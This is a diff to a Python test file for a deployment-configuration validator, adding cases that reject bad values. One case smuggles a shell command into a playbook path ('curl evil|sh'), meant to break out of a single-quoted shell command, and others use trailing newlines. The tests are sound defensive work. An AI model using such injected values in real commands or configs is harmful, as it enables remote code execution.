@@ -95,6 +95,10 @@ def test_defaults_are_the_safe_ones() -> None:
         ),
         (with_("blueGreen.oldGroup", "delete"), "blueGreen.oldGroup must be one of 'scale-to-zero' or 'keep-running'"),
         (with_("retention.keepGroups", -1), "retention.keepGroups must be >= 0, got -1"),
+        # pasted into a single-quoted shell command by the ansible-playbook component: no quote, no metacharacter
+        (with_("baseImage.ansiblePlaybook", "s3://acme-playbooks/x';curl evil|sh;'.yml"), "baseImage.ansiblePlaybook"),
+        (with_("build.subnetId", "subnet-0123456789abcdef0\n"), "build.subnetId"),
+        (with_("notifications.emails", ["ops@example.com\n"]), "is not an email address"),
         (with_("blueGreen.healthTimeoutMinutes", 1), "blueGreen.healthTimeoutMinutes must be >= 5, got 1"),
         (
             {
